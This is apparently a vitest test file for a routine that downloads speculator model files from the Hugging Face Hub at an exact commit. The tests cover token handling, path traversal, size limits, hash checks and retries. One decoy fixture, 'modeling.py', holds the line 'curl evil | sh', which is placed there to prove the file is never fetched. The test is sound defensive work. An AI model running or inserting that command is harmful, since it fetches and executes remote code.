import { createHash, randomBytes } from "node:crypto";
import { mkdtemp, readdir, readFile, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { FetchError } from "./fetch-errors";
import { fetchSpeculatorFromHub, type HubHttpOptions, type SpeculatorFetch } from "./hub-speculator";
import {
  type HubFaultRule,
  type HubTestConfig,
  type HubTestRepo,
  type HubTestServer,
  startHubTestServer,
} from "./testing/hub-test-server";

const REPO = "my-org/qwen3-8b-eagle3";
const COMMIT = createHash("sha1").update("the speculator's commit").digest("hex");
const OTHER_COMMIT = createHash("sha1").update("a commit nobody made").digest("hex");
const TOKEN = "hf_arena_test_token";
const FAST: Partial<HubHttpOptions> = {
  connectTimeoutMs: 1_000,
  headersTimeoutMs: 300,
  bodyTimeoutMs: 300,
  tries: 3,
  backoffMs: 10,
  maxBackoffMs: 50,
};

/** undici arms its headers and body timeouts on a timer of about a second's resolution. */
const STALLING: Partial<HubHttpOptions> = { ...FAST, tries: 2 };

const CONFIG = JSON.stringify({
  architectures: ["LlamaForCausalLMEagle3"],
  hidden_size: 4096,
  draft_vocab_size: 32000,
});
const WEIGHTS = randomBytes(256 * 1024);
const FILES: Record<string, Buffer | string> = {
  "config.json": CONFIG,
  "model.safetensors": WEIGHTS,
  "sub/generation_config.json": '{"do_sample": true}',
  "modeling.py": "import os\nos.system('curl evil | sh')\n",
  "pytorch_model.bin": randomBytes(4096),
  "README.md": "# an EAGLE-3 head\n",
};
const FETCHED = ["config.json", "model.safetensors", "sub/generation_config.json"];
const NEVER = ["modeling.py", "pytorch_model.bin", "README.md"];

function sha256(content: Buffer | string): string {
  return createHash("sha256").update(content).digest("hex");
}

function speculatorRepo(over: Partial<HubTestRepo> = {}): HubTestRepo {
  return { id: REPO, private: true, commits: { [COMMIT]: { files: FILES } }, refs: { main: COMMIT }, ...over };
}

let server: HubTestServer | undefined;
let dest: string;

beforeEach(async () => {
  dest = join(await mkdtemp(join(tmpdir(), "hub-speculator-")), "speculator");
});

afterEach(async () => {
  await server?.close();
  server = undefined;
  await rm(join(dest, ".."), { recursive: true, force: true });
});

async function hub(config: Partial<HubTestConfig> = {}): Promise<HubTestServer> {
  server = await startHubTestServer({ repos: [speculatorRepo()], token: TOKEN, ...config });
  return server;
}

function input(s: HubTestServer, over: Partial<SpeculatorFetch> = {}): SpeculatorFetch {
  return {
    hubBaseUrl: s.url,
    repository: REPO,
    revision: COMMIT,
    dest,
    maxBytes: 1 << 30,
    token: TOKEN,
    http: FAST,
    ...over,
  };
}

async function failure(fetch: SpeculatorFetch): Promise<FetchError> {
  const error = await fetchSpeculatorFromHub(fetch).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(FetchError);
  return error as FetchError;
}

async function listTree(dir: string, prefix = ""): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true }).catch(() => [])) {
    const path = prefix + entry.name;
    if (entry.isDirectory()) out.push(...(await listTree(join(dir, entry.name), `${path}/`)));
    else out.push(path);
  }
  return out.sort();
}

function requested(s: HubTestServer, path: string) {
  return s.requests.filter((r) => decodeURIComponent(r.url.split("?")[0]!).endsWith(`/${path}`));
}

describe("fetchSpeculatorFromHub", () => {
  it("downloads only the *.json and *.safetensors at the exact commit, LFS from the CDN without the token", async () => {
    const s = await hub();
    const result = await fetchSpeculatorFromHub(input(s));

    expect(result.commit).toBe(COMMIT);
    expect(result.files).toEqual(
      FETCHED.map((path) => ({ path, size: Buffer.byteLength(FILES[path]!), sha256: sha256(FILES[path]!) })),
    );
    expect(result.bytes).toBe(FETCHED.reduce((n, p) => n + Buffer.byteLength(FILES[p]!), 0));
    expect(await listTree(dest)).toEqual(FETCHED);
    for (const path of FETCHED) {
      expect(sha256(await readFile(join(dest, path)))).toBe(sha256(FILES[path]!));
      expect((await stat(join(dest, path))).mode & 0o777).toBe(0o644);
    }

    for (const path of NEVER) expect(requested(s, path)).toEqual([]);
    // The weights came from the CDN after the Hub's 302; the token never went there.
    const cdn = s.requests.filter((r) => r.server === "cdn");
    expect(cdn.map((r) => [r.url.split("?")[0], r.status])).toEqual([[expect.stringContaining(sha256(WEIGHTS)), 200]]);
    expect(cdn.every((r) => r.authorization === undefined)).toBe(true);
    expect(requested(s, "model.safetensors").find((r) => r.server === "hub")?.status).toBe(302);
    // The repository is private: every request to the Hub itself, the relative resolve-cache hop included, carried it.
    const hubRequests = s.requests.filter((r) => r.server === "hub");
    expect(hubRequests.every((r) => r.authorization === `Bearer ${TOKEN}`)).toBe(true);
    expect(hubRequests.some((r) => r.url.startsWith("/api/resolve-cache/models/") && r.status === 200)).toBe(true);
  });

  it("follows the Hub's relative redirect from a renamed repository", async () => {
    const s = await hub({ repos: [speculatorRepo({ renamedFrom: ["old-org/eagle"] })] });
    const result = await fetchSpeculatorFromHub(input(s, { repository: "old-org/eagle" }));
    expect(result.files.map((f) => f.path)).toEqual(FETCHED);
    expect(
      s.requests
        .filter((r) => r.url.startsWith("/old-org/eagle/") || r.url.startsWith("/api/models/old-org/"))
        .map((r) => r.status),
    ).toEqual([307, 307, 307, 307]);
  });

  describe("charges the participant, naming what is wrong", () => {
    const manyFiles = Object.fromEntries([
      ["model.safetensors", WEIGHTS],
      ...Array.from({ length: 1000 }, (_, i) => [`shard-${i}.json`, "{}"]),
    ]);
    const cases: {
      name: string;
      repo?: Partial<HubTestRepo>;
      fetch?: Partial<SpeculatorFetch>;
      faults?: HubFaultRule[];
      message: RegExp;
      noRequests?: boolean;
    }[] = [
      {
        name: "a repository that does not exist",
        fetch: { repository: "my-org/missing" },
        message:
          /speculator repository my-org\/missing was not found on the Hub, or is private .*HTTP 404 RepoNotFound/,
      },
      {
        name: "a private repository, without the arena's token",
        fetch: { token: undefined },
        message: new RegExp(
          `speculator repository ${REPO} was not found on the Hub, or is private .*HTTP 401 RepoNotFound`,
        ),
      },
      {
        name: "a commit the repository does not have",
        fetch: { revision: OTHER_COMMIT },
        message: new RegExp(`${REPO} has no commit ${OTHER_COMMIT} on the Hub \\(HTTP 404 RevisionNotFound`),
      },
      { name: "a branch name", fetch: { revision: "main" }, message: /must be an exact commit/, noRequests: true },
      {
        name: "a short commit hash",
        fetch: { revision: COMMIT.slice(0, 8) },
        message: /must be an exact commit/,
        noRequests: true,
      },
      {
        name: "a name that is no Hub repository",
        fetch: { repository: "../../etc" },
        message: /is not a Hugging Face repository/,
        noRequests: true,
      },
      {
        name: "a gated repository the arena was not granted",
        repo: { gated: "manual" },
        message: new RegExp(
          `${REPO} is gated on the Hub and the arena has not been granted access \\(HTTP 403 GatedRepo`,
        ),
      },
      {
        name: "a gated repository, without the arena's token",
        repo: { gated: "auto", private: false },
        fetch: { token: undefined },
        message: /is gated on the Hub .*HTTP 401 GatedRepo/,
      },
      {
        name: "a disabled repository",
        repo: { disabled: true },
        message: new RegExp(`${REPO} is disabled on the Hub`),
      },
      {
        name: "no *.safetensors at all",
        repo: { commits: { [COMMIT]: { files: { "config.json": CONFIG, "pytorch_model.bin": WEIGHTS } } } },
        message: /holds no \*\.safetensors file/,
        noRequests: true,
      },
      {
        name: "a path that climbs out of the directory",
        repo: { commits: { [COMMIT]: { files: { ...FILES, "../escape.json": "{}" } } } },
        message: /lists the unsafe path "\.\.\/escape\.json"/,
        noRequests: true,
      },
      {
        name: "more files than any speculator needs",
        repo: { commits: { [COMMIT]: { files: manyFiles } } },
        message: /holds 1001 \*\.json and \*\.safetensors files, more than the 1000 allowed/,
        noRequests: true,
      },
      {
        name: "more than half the target's bytes",
        fetch: { maxBytes: WEIGHTS.length },
        message: new RegExp(
          `speculator ${REPO}@${COMMIT} holds \\d+ bytes .* more than half the target's bytes \\(${WEIGHTS.length}\\)`,
        ),
        noRequests: true,
      },
      {
        name: "weights whose bytes are not the sha256 the Hub lists",
        faults: [{ repo: REPO, path: "model.safetensors", fault: { kind: "corrupt" } }],
        message: new RegExp(
          `file "model.safetensors" of speculator ${REPO}@${COMMIT} has sha256 [0-9a-f]{64}, but the Hub lists ${sha256(WEIGHTS)}`,
        ),
      },
      {
        name: "a config whose bytes are not the git blob the Hub lists",
        faults: [{ repo: REPO, path: "config.json", fault: { kind: "corrupt" } }],
        message: /file "config\.json" of .* has git blob id [0-9a-f]{40}, but the Hub lists [0-9a-f]{40}/,
      },
      {
        name: "a file whose size is not the size the Hub lists",
        faults: [{ repo: REPO, path: "model.safetensors", fault: { kind: "listed-size", size: WEIGHTS.length + 7 } }],
        message: new RegExp(
          `file "model.safetensors" of .* is ${WEIGHTS.length} bytes on the Hub, but its listing says ${WEIGHTS.length + 7}`,
        ),
      },
    ];

    it.each(cases)("$name", async ({ repo, fetch, faults, message, noRequests }) => {
      const s = await hub({ repos: [speculatorRepo(repo)], faults });
      const error = await failure(input(s, fetch));
      expect(error.fault).toBe("submission");
      expect(error.message).toMatch(message);
      for (const path of NEVER) expect(requested(s, path)).toEqual([]);
      if (noRequests) expect(s.requests.filter((r) => r.url.includes("/resolve"))).toEqual([]);
      // Whatever was refused left no file under the name it would have had.
      expect((await listTree(dest)).filter((p) => !FETCHED.includes(p))).toEqual([]);
    });
  });

  describe("refunds what is the arena's fault", () => {
    it("the Hub unreachable", async () => {
      const s = await hub();
      await s.close();
      server = undefined;
      const error = await failure(input(s));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(
        new RegExp(
          `the Hub could not be reached for speculator ${REPO}@${COMMIT} \\(ECONNREFUSED\\) \\(gave up after 3 tries\\)`,
        ),
      );
    });

    it("the listing failing with 5xx on every try", async () => {
      const s = await hub({ faults: [{ repo: REPO, fault: { kind: "status", status: 503 } }] });
      const error = await failure(input(s));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(/the Hub answered HTTP 503: Internal Error .* \(gave up after 3 tries\)/);
      expect(s.requests.map((r) => r.status)).toEqual([503, 503, 503]);
    });

    it("a file failing with 5xx on every try", async () => {
      const s = await hub({
        faults: [{ repo: REPO, path: "model.safetensors", fault: { kind: "status", status: 502 } }],
      });
      const error = await failure(input(s));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(/HTTP 502.* for file "model\.safetensors" of speculator .*gave up after 3 tries/);
    });

    it("a download stalled before its headers on every try", async () => {
      const s = await hub({
        faults: [{ repo: REPO, path: "model.safetensors", fault: { kind: "stall", at: "headers", ms: 8_000 } }],
      });
      const started = Date.now();
      const error = await failure(input(s, { http: STALLING }));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(
        /the Hub timed out answering for file "model\.safetensors" .*gave up after 2 tries/,
      );
      expect(Date.now() - started).toBeLessThan(5_000);
    });

    it("a download stalled mid-body on every try", async () => {
      const s = await hub({
        faults: [{ repo: REPO, path: "model.safetensors", fault: { kind: "stall", at: "body", ms: 8_000 } }],
      });
      const started = Date.now();
      const error = await failure(input(s, { http: STALLING }));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(
        /the download of file "model\.safetensors" .* timed out, stalled mid-body .*gave up after 2 tries/,
      );
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(await listTree(dest)).not.toContain("model.safetensors");
    });

    it("the Hub refusing the arena's own token", async () => {
      const s = await hub();
      const error = await failure(input(s, { token: "hf_revoked" }));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(
        /the Hub refused the arena's HUB_TOKEN \(HTTP 401: Invalid credentials in Authorization header\)/,
      );
    });

    it("an answer it does not understand", async () => {
      const s = await hub();
      const error = await failure(input(s, { hubBaseUrl: s.cdnUrl, token: undefined }));
      expect(error.fault).toBe("arena");
      expect(error.message).toMatch(
        new RegExp(`the Hub answered HTTP 403 for speculator ${REPO}@${COMMIT}, which the arena does not understand`),
      );
    });
  });

  describe("tries again what is transient", () => {
    it("a connection dropped mid-body, twice", async () => {
      const s = await hub({ faults: [{ repo: REPO, path: "model.safetensors", times: 2, fault: { kind: "drop" } }] });
      const result = await fetchSpeculatorFromHub(input(s));
      expect(result.files.find((f) => f.path === "model.safetensors")?.sha256).toBe(sha256(WEIGHTS));
      expect(s.requests.filter((r) => r.server === "cdn")).toHaveLength(3);
      expect(await listTree(dest)).toEqual(FETCHED);
    });

    it("a listing dropped mid-body, and one stalled before its headers", async () => {
      const s = await hub({
        faults: [
          { repo: REPO, times: 1, fault: { kind: "drop" } },
          { repo: REPO, times: 1, fault: { kind: "stall", at: "headers", ms: 2_000 } },
        ],
      });
      const result = await fetchSpeculatorFromHub(input(s));
      expect(result.commit).toBe(COMMIT);
      expect(s.requests.filter((r) => r.url.startsWith("/api/models/"))).toHaveLength(3);
    });

    it("a 5xx from resolve, twice", async () => {
      const s = await hub({
        faults: [{ repo: REPO, path: "config.json", times: 2, fault: { kind: "status", status: 500 } }],
      });
      const result = await fetchSpeculatorFromHub(input(s));
      expect(result.files.map((f) => f.sha256)).toEqual(FETCHED.map((p) => sha256(FILES[p]!)));
      expect(requested(s, "config.json").map((r) => r.status)).toEqual([500, 500, 307, 200]);
    });

    it("a 429, after the Retry-After it names", async () => {
      const s = await hub({
        faults: [
          {
            repo: REPO,
            path: "model.safetensors",
            times: 1,
            fault: { kind: "status", status: 429, retryAfterSeconds: 1 },
          },
        ],
      });
      const started = Date.now();
      await fetchSpeculatorFromHub(input(s));
      expect(Date.now() - started).toBeGreaterThanOrEqual(1_000);
      expect(
        requested(s, "model.safetensors")
          .filter((r) => r.server === "hub")
          .map((r) => r.status),
      ).toEqual([429, 302]);
    });
  });
});
